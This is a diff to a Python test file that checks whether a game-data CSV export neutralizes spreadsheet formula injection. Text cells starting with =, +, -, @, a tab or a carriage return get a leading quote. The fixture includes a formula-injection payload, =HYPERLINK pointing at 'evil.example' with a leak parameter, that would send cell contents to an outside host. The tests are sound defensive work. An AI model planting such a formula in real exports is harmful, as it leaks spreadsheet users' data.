@@ -19,6 +19,7 @@ from bangscore.build.export import (
     CSV_COLUMNS,
     Export,
     changes,
+    csv_cell,
     export_records,
     gzip_bytes,
     list_exports,
@@ -441,3 +442,60 @@ def test_presigned_urls_need_a_fallback_for_a_folder(
     )
     assert links[GAMES_CSV].url == "https://x/export/s1/games.csv.gz?e=1060"
     assert {link.expires_at for link in links.values()} == {1060}
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralized_in_the_written_file(
+    tmp_path: Path,
+) -> None:
+    """Issue 45 finding 7: 29 cells of the real games.csv.gz began with ``-``, ``+`` or ``@``
+    and a name ``=HYPERLINK(...)`` passed through. Text cells beginning with = + - @, a tab
+    or a carriage return get a leading ', numbers stay numbers; JSON lines keep the text."""
+    texts = {
+        10: (HYPERLINK, "@Evil Dev", "+Plus Pub"),
+        11: ("-KLAUS-", "\tTabbed", "\rReturned"),
+        12: ("Plain = Name", "Dev - Studio", "Pub@Home"),
+    }
+    records = [
+        factories.make_record(appid=appid, name=name, developer=dev, publisher=pub)
+        for appid, (name, dev, pub) in texts.items()
+    ]
+    write_export(
+        LocalStorage(tmp_path),
+        scored(records),
+        snapshot_id="s1",
+        created_at=T0,
+        site_url=factories.SITE,
+        keep=7,
+    )
+    [written] = tmp_path.rglob(GAMES_CSV)
+    with gzip.open(written, "rt", newline="") as text:
+        rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(text))[1:]]
+    cells = {int(r["appid"]): (r["name"], r["developer"], r["publisher"]) for r in rows}
+    assert cells == {
+        10: ("'" + HYPERLINK, "'@Evil Dev", "'+Plus Pub"),
+        11: ("'-KLAUS-", "'\tTabbed", "'\rReturned"),
+        12: ("Plain = Name", "Dev - Studio", "Pub@Home"),  # only the first character counts
+    }
+    assert all(float(r["price_usd"]) == 19.99 for r in rows)
+    [jsonl] = tmp_path.rglob(GAMES_JSONL)
+    assert {r["appid"]: r["name"] for r in unzip_lines(jsonl.read_bytes())}[10] == HYPERLINK
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        pytest.param(-3.5, "-3.5", id="a negative number stays a number"),
+        pytest.param(-2, "-2", id="a negative integer too"),
+        pytest.param(True, "True", id="boolean"),
+        pytest.param("-3.5", "'-3.5", id="text that looks like a number is text"),
+        pytest.param(["-Punk", "Rock"], "'-Punk|Rock", id="a list's joined text"),
+        pytest.param(["Rock", "-Punk"], "Rock|-Punk", id="only the cell's first character"),
+        pytest.param({"a": "=1"}, '{"a":"=1"}', id="JSON begins with a brace"),
+        pytest.param(None, "", id="null"),
+    ],
+)
+def test_csv_cell(value: Any, cell: str) -> None:
+    assert csv_cell(value) == cell
